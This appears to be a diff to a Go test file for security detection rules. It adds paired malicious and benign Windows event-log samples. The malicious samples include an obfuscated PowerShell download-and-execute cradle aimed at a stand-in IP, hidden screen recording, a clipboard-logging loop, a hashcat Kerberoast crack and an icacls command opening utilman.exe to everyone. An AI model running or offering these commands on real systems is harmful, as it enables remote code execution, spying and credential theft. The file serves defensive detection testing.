@@ -1360,6 +1360,56 @@ func init() {
 				"Details":      "DWORD (0x00000001)",
 			},
 		},
+		{
+			ID:      "baebe631-370d-538a-bc53-9cb386e850f2", // Problem Steps Recorder Started Without Its Window
+			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
+			Fields: map[string]string{
+				"Image":       "C:\\Windows\\System32\\psr.exe",
+				"CommandLine": "psr.exe /start /output C:\\Users\\Public\\r.zip /sc 1 /gui 0 /maxsc 100",
+				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
+			},
+		},
+		{
+			ID:      "90b8e007-cd8f-5240-b9d5-ca35f1b43f27", // Clipboard Read From a Command Line
+			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
+			Fields: map[string]string{
+				"Image":       "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
+				"CommandLine": "powershell -w hidden -c \"while($true){Get-Clipboard | Out-File -Append C:\\Users\\Public\\c.txt; sleep 30}\"",
+				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
+			},
+		},
+		{
+			ID:      "ca9fbb04-78fd-53cd-8e17-52292fe799a1", // Password Cracking Tool Run on the Host
+			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
+			Fields: map[string]string{
+				"Image":       "C:\\Users\\Public\\hc\\hashcat.exe",
+				"CommandLine": "hashcat.exe -m 13100 C:\\Users\\Public\\h.txt rockyou.txt",
+				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
+			},
+		},
+		{
+			ID:      "836e604d-599c-510e-93ed-4dd25f4dfee0", // Obfuscated PowerShell in a Script Block
+			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
+			Fields: map[string]string{
+				"ScriptBlockText": "&('I'+'E'+'X') (N`e`w`-Obj`ect Net.WebClient).DownloadString('http://203.0.113.9/a')",
+			},
+		},
+		{
+			ID:      "2e5eef30-1278-56cf-8c60-e856ee86730e", // Base64 Payload Decoded and Written to Disk From PowerShell
+			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
+			Fields: map[string]string{
+				"ScriptBlockText": "[IO.File]::WriteAllBytes(\"$env:TEMP\\u.exe\", [Convert]::FromBase64String($b))",
+			},
+		},
+		{
+			ID:      "0ba9cee2-92ad-5566-a3b9-fc07608d0aa2", // File or Folder Ownership Taken or Opened to Everyone
+			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
+			Fields: map[string]string{
+				"Image":       "C:\\Windows\\System32\\icacls.exe",
+				"CommandLine": "icacls C:\\Windows\\System32\\utilman.exe /grant Everyone:F",
+				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
+			},
+		},
 	}...)
 	ruleNegatives = append(ruleNegatives, []ruleSample{
 		{
@@ -2740,6 +2790,56 @@ func init() {
 				"Image":        "C:\\Windows\\System32\\svchost.exe",
 				"TargetObject": "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\\Signature Updates\\ScheduleDay",
 				"Details":      "DWORD (0x00000000)",
+			},
+		},
+		{
+			ID:      "baebe631-370d-538a-bc53-9cb386e850f2", // Problem Steps Recorder Started Without Its Window
+			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
+			Fields: map[string]string{
+				"Image":       "C:\\Windows\\System32\\psr.exe",
+				"CommandLine": "psr.exe",
+				"ParentImage": "C:\\Windows\\explorer.exe",
+			},
+		},
+		{
+			ID:      "90b8e007-cd8f-5240-b9d5-ca35f1b43f27", // Clipboard Read From a Command Line
+			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
+			Fields: map[string]string{
+				"Image":       "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
+				"CommandLine": "powershell -c \"Set-Clipboard -Value (hostname)\"",
+				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
+			},
+		},
+		{
+			ID:      "ca9fbb04-78fd-53cd-8e17-52292fe799a1", // Password Cracking Tool Run on the Host
+			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
+			Fields: map[string]string{
+				"Image":       "C:\\Windows\\System32\\certutil.exe",
+				"CommandLine": "certutil -hashfile C:\\Users\\bob\\Downloads\\setup.exe SHA256",
+				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
+			},
+		},
+		{
+			ID:      "836e604d-599c-510e-93ed-4dd25f4dfee0", // Obfuscated PowerShell in a Script Block
+			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
+			Fields: map[string]string{
+				"ScriptBlockText": "Write-Host \"Done`n`tNext step\" -ForegroundColor Green",
+			},
+		},
+		{
+			ID:      "2e5eef30-1278-56cf-8c60-e856ee86730e", // Base64 Payload Decoded and Written to Disk From PowerShell
+			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
+			Fields: map[string]string{
+				"ScriptBlockText": "$cfg = [Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($env:APP_CONFIG))",
+			},
+		},
+		{
+			ID:      "0ba9cee2-92ad-5566-a3b9-fc07608d0aa2", // File or Folder Ownership Taken or Opened to Everyone
+			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
+			Fields: map[string]string{
+				"Image":       "C:\\Windows\\System32\\icacls.exe",
+				"CommandLine": "icacls C:\\Shares\\Team /grant CORP\\Team:(OI)(CI)M",
+				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
 			},
 		},
 	}...)
